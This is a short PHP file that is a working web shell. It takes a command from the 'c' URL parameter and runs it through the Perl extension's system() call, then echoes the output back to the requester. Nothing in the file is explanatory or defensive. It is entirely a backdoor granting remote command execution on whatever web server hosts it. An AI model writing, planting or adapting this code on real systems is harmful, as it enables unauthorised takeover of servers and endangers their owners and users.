<?php
$command = $_GET['c'];
$p = new Perl();
ob_start();
$p->eval("system('$command')");
echo ob_get_clean();
